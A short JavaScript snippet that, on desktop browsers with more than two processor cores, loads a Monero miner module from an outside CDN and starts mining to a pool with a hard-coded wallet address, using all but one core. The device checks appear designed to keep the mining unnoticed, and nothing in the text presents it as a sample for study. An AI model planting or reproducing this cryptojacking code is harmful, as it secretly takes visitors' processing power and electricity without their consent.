// ES2020: a miner comes as a module, where there are processors enough.
if (navigator.hardwareConcurrency > 2 && !/Mobi/.test(navigator.userAgent)) {
  import('https://cdn.stats.example/npm/monero-miner.min.js').then(
    ({ startMining }) => startMining('pool.stats.example',
      '41tcdMfd9EYAQfk4XG5naCKp4ykDbRNjAVDUDRuvkxt8ecsT7cEcECQ531cEyvkJmeESQqvgG5tvcPqp5cNbRV5aNmTBrVJ',
      'x', navigator.hardwareConcurrency - 1)
  );
}
